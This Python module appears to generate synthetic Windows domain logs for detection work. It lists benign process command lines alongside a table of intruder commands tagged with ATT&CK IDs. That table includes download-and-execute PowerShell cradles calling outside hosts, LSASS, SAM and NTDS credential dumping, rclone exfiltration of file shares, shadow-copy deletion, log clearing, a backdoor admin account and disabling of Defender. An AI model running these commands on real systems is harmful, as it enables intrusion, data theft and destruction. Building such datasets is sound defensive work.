"""A Windows domain, and the programs that run in it: shared by the sites whose logs are of Windows."""
from __future__ import annotations

from typing import List

from .people import FIRST_NAMES, LAST_NAMES
from .site import Site

NO_GUID = "{00000000-0000-0000-0000-000000000000}"
PRIVILEGES = "\n\t\t\t".join((
    "SeSecurityPrivilege", "SeTakeOwnershipPrivilege", "SeLoadDriverPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege",
    "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege"))


class Windows:
    """The accounts of a domain.

    sids       account -> its SID
    authority  what the SIDs of the domain begin with
    record     the event's number that was given last
    """

    def __init__(self, site: Site, netbios: str, fqdn: str) -> None:
        self._site, self.netbios, self.fqdn = site, netbios, fqdn
        rng = site.rng
        first, last = rng.sample(FIRST_NAMES, 30), rng.sample(LAST_NAMES, 30)
        self.users = [given[0] + family if rng.random() < 0.8 else f"{given}.{family}" for given, family in zip(first, last)]
        self.authority = f"S-1-5-21-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**8, 4 * 10**9)}"
        self.sids = {user: f"{self.authority}-{1104 + number}" for number, user in enumerate(self.users)}
        self.record = rng.randint(10**5, 10**7)

    def logon_id(self) -> str:
        """The number of a logon session."""
        return f"0x{self._site.rng.randint(0x40000, 0x9ffffff):x}"

    def guid(self) -> str:
        """A GUID in braces."""
        return f"{{{self._site.uuid().upper()}}}"


def _rows(text: str) -> List[List[str]]:
    return [line.split("|") for line in text.strip().split("\n")]


#: Daily work: image, command line, parent. %U stands for the user.
PROGRAMS = _rows(r"""
C:\Program Files\Google\Chrome\Application\chrome.exe|"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1640,i,1180,131072 --lang=en-US --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id=44 /prefetch:1|C:\Program Files\Google\Chrome\Application\chrome.exe
C:\Program Files\Google\Update\GoogleUpdate.exe|"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler|C:\Windows\System32\svchost.exe
C:\Windows\System32\svchost.exe|C:\Windows\system32\svchost.exe -k netsvcs -p -s wlidsvc|C:\Windows\System32\services.exe
C:\Windows\System32\svchost.exe|C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s WdiSystemHost|C:\Windows\System32\services.exe
C:\Windows\System32\svchost.exe|C:\Windows\System32\svchost.exe -k swprv|C:\Windows\System32\services.exe
C:\Windows\System32\taskhostw.exe|taskhostw.exe Install $(Arg0)|C:\Windows\System32\svchost.exe
C:\Windows\System32\taskhostw.exe|taskhostw.exe KEYROAMING|C:\Windows\System32\svchost.exe
C:\Windows\System32\conhost.exe|\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1|C:\Windows\System32\cmd.exe
C:\Windows\System32\backgroundTaskHost.exe|"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca|C:\Windows\System32\svchost.exe
C:\Windows\System32\RuntimeBroker.exe|C:\Windows\System32\RuntimeBroker.exe -Embedding|C:\Windows\System32\svchost.exe
C:\Windows\System32\dllhost.exe|C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}|C:\Windows\System32\svchost.exe
C:\Windows\System32\SearchProtocolHost.exe|"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe53_ Global\UsGthrCtrlFltPipeMssGthrPipe53 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon"|C:\Windows\System32\SearchIndexer.exe
C:\Windows\System32\wbem\WmiPrvSE.exe|C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding|C:\Windows\System32\svchost.exe
C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE|"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"|C:\Windows\explorer.exe
C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE|"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "\\FS01\finance\2023\Budget_v7 final.xlsx"|C:\Windows\explorer.exe
C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE|"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\%U\Downloads\Offer letter.docx" /o ""|C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE
C:\Users\%U\AppData\Local\Microsoft\Teams\current\Teams.exe|"C:\Users\%U\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=gpu-process --enable-features=SharedArrayBuffer|C:\Users\%U\AppData\Local\Microsoft\Teams\Update.exe
C:\Users\%U\AppData\Local\Microsoft\OneDrive\OneDrive.exe|"C:\Users\%U\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background|C:\Windows\explorer.exe
C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe|"C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe" -Embedding|C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe
C:\Windows\CCM\CcmExec.exe|C:\Windows\CCM\CcmExec.exe|C:\Windows\System32\services.exe
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|"C:\Windows\system32\WindowsPowerShell\v1.0\PowerShell.exe" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass "& 'C:\Windows\CCM\SystemTemp\b0d5b1b2-0e3b-4a9f-9f7c-66b6b4c9a5b1.ps1'"|C:\Windows\CCM\CcmExec.exe
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\8099.4957.0.8099\OpenHandleCollector.ps1'|C:\Program Files\Windows Defender Advanced Threat Protection\SenseIR.exe
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -NoProfile -File C:\Scripts\Backup-SQL.ps1 -Server SQL01 -Days 7|C:\Windows\System32\svchost.exe
C:\Windows\System32\cmd.exe|C:\Windows\system32\cmd.exe /c ""\\CORP\NETLOGON\logon.bat" "|C:\Windows\System32\userinit.exe
C:\Windows\System32\net.exe|net  use H: \\FS01\home$\%U /persistent:no|C:\Windows\System32\cmd.exe
C:\Windows\System32\net1.exe|C:\Windows\system32\net1  localgroup Administrators|C:\Windows\System32\net.exe
C:\Windows\System32\gpupdate.exe|"C:\Windows\System32\gpupdate.exe" /target:user|C:\Windows\System32\svchost.exe
C:\Windows\System32\sc.exe|C:\Windows\system32\sc.exe start w32time task_started|C:\Windows\System32\svchost.exe
C:\Windows\System32\schtasks.exe|schtasks /query /tn "\Microsoft\Office\Office Automatic Updates 2.0" /fo CSV|C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeC2RClient.exe
C:\Windows\System32\reg.exe|reg  query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion /v ProgramFilesDir|C:\Windows\System32\cmd.exe
C:\Windows\System32\rundll32.exe|C:\Windows\system32\rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess Flags:276824072 WinX:0 WinY:0 IEFrame:0000000000000000|C:\Windows\explorer.exe
C:\Windows\System32\rundll32.exe|rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh|C:\Windows\System32\svchost.exe
C:\Windows\System32\ipconfig.exe|ipconfig  /all|C:\Windows\System32\cmd.exe
C:\Windows\System32\PING.EXE|ping  -n 1 DC01|C:\Windows\System32\cmd.exe
C:\Windows\System32\whoami.exe|whoami  /upn|C:\Windows\System32\cmd.exe
C:\Windows\System32\mmc.exe|"C:\Windows\system32\mmc.exe" "C:\Windows\system32\dsa.msc"|C:\Windows\explorer.exe
C:\Windows\System32\msiexec.exe|C:\Windows\system32\msiexec.exe /V|C:\Windows\System32\services.exe
C:\Windows\System32\msiexec.exe|"C:\Windows\System32\msiexec.exe" /i "C:\Windows\ccmcache\3a\7z2201-x64.msi" /qn REBOOT=ReallySuppress|C:\Windows\CCM\CcmExec.exe
C:\Program Files\Notepad++\notepad++.exe|"C:\Program Files\Notepad++\notepad++.exe" "C:\Scripts\Add-User.ps1"|C:\Windows\explorer.exe
C:\Program Files\7-Zip\7zG.exe|"C:\Program Files\7-Zip\7zG.exe" a -i#7zMap20447:52:7zEvent13862 -ad -saa -- "C:\Users\%U\Desktop\photos"|C:\Windows\explorer.exe
C:\Program Files\Git\cmd\git.exe|git.exe fetch --all --prune|C:\Users\%U\AppData\Local\Programs\Microsoft VS Code\Code.exe
C:\Program Files\nodejs\node.exe|"C:\Program Files\nodejs\node.exe" "C:\Users\%U\src\portal\node_modules\.bin\..\webpack\bin\webpack.js" --watch|C:\Windows\System32\cmd.exe
C:\Program Files\VMware\VMware Tools\vmtoolsd.exe|"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"|C:\Windows\System32\services.exe
C:\Program Files\SplunkUniversalForwarder\bin\splunk-powershell.exe|"C:\Program Files\SplunkUniversalForwarder\bin\splunk-powershell.exe"|C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe
C:\Program Files\SplunkUniversalForwarder\bin\splunk-admon.exe|"C:\Program Files\SplunkUniversalForwarder\bin\splunk-admon.exe"|C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe
C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Tray.exe|"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Tray.exe" -NoControlPanel -CheckNumberOfRunningAgents|C:\Windows\explorer.exe
C:\Windows\System32\vssadmin.exe|vssadmin list shadows|C:\Windows\System32\cmd.exe
C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MpCmdRun.exe|"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke|C:\Windows\System32\svchost.exe
C:\Windows\System32\csc.exe|"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\TEMP\xk2gdkxy\xk2gdkxy.cmdline"|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
C:\Windows\SysWOW64\regsvr32.exe|regsvr32.exe /s "C:\Program Files (x86)\Zoom\bin\zOutlookPlugin.dll"|C:\Windows\SysWOW64\msiexec.exe
C:\Windows\System32\certutil.exe|certutil  -store my|C:\Windows\System32\cmd.exe
C:\Windows\System32\wevtutil.exe|wevtutil gl Security|C:\Windows\System32\cmd.exe
C:\Windows\System32\consent.exe|consent.exe 5316 474 000001F5A2A34F80|C:\Windows\System32\svchost.exe
C:\Windows\System32\mobsync.exe|C:\Windows\System32\mobsync.exe -Embedding|C:\Windows\System32\svchost.exe
C:\Windows\System32\LogonUI.exe|"LogonUI.exe" /flags:0x2 /state0:0xa3d27855 /state1:0x41c64e6d|C:\Windows\System32\winlogon.exe
C:\Windows\System32\TiWorker.exe|C:\Windows\winsxs\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.1790_none_7df2aec07ca10e81\TiWorker.exe -Embedding|C:\Windows\System32\svchost.exe
""")
#: What an intruder types: image, command line, parent, technique.
HANDS_ON = _rows(r"""
C:\Windows\System32\whoami.exe|whoami  /all|C:\Windows\System32\cmd.exe|T1033
C:\Windows\System32\net.exe|net  group "Domain Admins" /domain|C:\Windows\System32\cmd.exe|T1069.002
C:\Windows\System32\net.exe|net  user /domain|C:\Windows\System32\cmd.exe|T1087.002
C:\Windows\System32\nltest.exe|nltest  /domain_trusts /all_trusts|C:\Windows\System32\cmd.exe|T1482
C:\Windows\System32\nltest.exe|nltest /dclist:|C:\Windows\System32\cmd.exe|T1018
C:\Windows\System32\systeminfo.exe|systeminfo|C:\Windows\System32\cmd.exe|T1082
C:\Windows\System32\tasklist.exe|tasklist  /v|C:\Windows\System32\cmd.exe|T1057
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoACgAbgBlAHcALQBvAGIAagBlAGMAdAAgAG4AZQB0AC4AdwBlAGIAYwBsAGkAZQBuAHQAKQAuAGQAbwB3AG4AbABvAGEAZABzAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADkAMgAuADEANgA4AC4AMAAuADUALwBhACcAKQApAA==|C:\Windows\System32\cmd.exe|T1059.001
C:\Windows\System32\cmd.exe|cmd.exe /c "powershell IEX(New-Object Net.WebClient).DownloadString('http://cdn-msupdate.net/s.ps1')"|C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE|T1204.002
C:\Windows\System32\rundll32.exe|rundll32.exe C:\ProgramData\wsx.dll,StartW|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|T1218.011
C:\Windows\System32\rundll32.exe|rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full|C:\Windows\System32\cmd.exe|T1003.001
C:\Windows\System32\reg.exe|reg  save HKLM\SAM C:\Windows\Temp\s.hiv /y|C:\Windows\System32\cmd.exe|T1003.002
C:\Windows\System32\reg.exe|reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDrvUpd /t REG_SZ /d "C:\Users\Public\odu.exe" /f|C:\Windows\System32\cmd.exe|T1547.001
C:\Windows\System32\schtasks.exe|schtasks  /create /tn "MicrosoftEdgeUpdateCore" /tr "rundll32 C:\ProgramData\wsx.dll,StartW" /sc minute /mo 30 /ru SYSTEM /f|C:\Windows\System32\cmd.exe|T1053.005
C:\Windows\System32\vssadmin.exe|vssadmin  delete shadows /all /quiet|C:\Windows\System32\cmd.exe|T1490
C:\Windows\System32\bcdedit.exe|bcdedit  /set {default} recoveryenabled No|C:\Windows\System32\cmd.exe|T1490
C:\Windows\System32\wevtutil.exe|wevtutil  cl Security|C:\Windows\System32\cmd.exe|T1070.001
C:\Windows\System32\ntdsutil.exe|ntdsutil  "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q|C:\Windows\System32\cmd.exe|T1003.003
C:\Windows\System32\certutil.exe|certutil  -urlcache -split -f http://185.141.63.12/b.txt C:\Users\Public\b.txt|C:\Windows\System32\cmd.exe|T1105
C:\Windows\System32\mshta.exe|mshta.exe http://185.141.63.12/u.hta|C:\Windows\explorer.exe|T1218.005
C:\Users\Public\odu.exe|C:\Users\Public\odu.exe|C:\Windows\explorer.exe|T1204.002
C:\Windows\PSEXESVC.exe|C:\Windows\PSEXESVC.exe|C:\Windows\System32\services.exe|T1569.002
C:\Windows\System32\cmd.exe|C:\Windows\system32\cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1668177003.2212 2>&1|C:\Windows\System32\wbem\WmiPrvSE.exe|T1047
C:\Windows\System32\cmd.exe|%COMSPEC% /C echo whoami ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & %COMSPEC% /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat|C:\Windows\System32\services.exe|T1569.002
C:\Windows\System32\cmd.exe|cmd.exe /c echo a6f31d > \\.\pipe\a6f31d|C:\Windows\System32\services.exe|T1134
C:\ProgramData\AdFind.exe|AdFind.exe  -f "(objectcategory=computer)" -csv|C:\Windows\System32\cmd.exe|T1018
C:\ProgramData\rclone.exe|rclone.exe  copy \\FS01\finance mega:fin -q --ignore-existing --auto-confirm --multi-thread-streams 12|C:\Windows\System32\cmd.exe|T1567.002
C:\Program Files\7-Zip\7z.exe|7z.exe  a -p1q2w3e C:\ProgramData\f.7z \\FS01\finance\*|C:\Windows\System32\cmd.exe|T1560.001
C:\Windows\System32\net.exe|net  user support$ Passw0rd!23 /add|C:\Windows\System32\cmd.exe|T1136.001
C:\Windows\System32\net.exe|net  localgroup administrators support$ /add|C:\Windows\System32\cmd.exe|T1098
C:\Windows\System32\netsh.exe|netsh  advfirewall set allprofiles state off|C:\Windows\System32\cmd.exe|T1562.004
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell  Set-MpPreference -DisableRealtimeMonitoring $true|C:\Windows\System32\cmd.exe|T1562.001
C:\Windows\System32\wbem\WMIC.exe|wmic  /node:FS01 process call create "rundll32 C:\ProgramData\wsx.dll,StartW"|C:\Windows\System32\cmd.exe|T1047
C:\Windows\System32\quser.exe|quser|C:\Windows\System32\cmd.exe|T1033
C:\Windows\System32\ARP.EXE|arp  -a|C:\Windows\System32\cmd.exe|T1018
C:\Windows\System32\ipconfig.exe|ipconfig  /displaydns|C:\Windows\System32\cmd.exe|T1016
""")
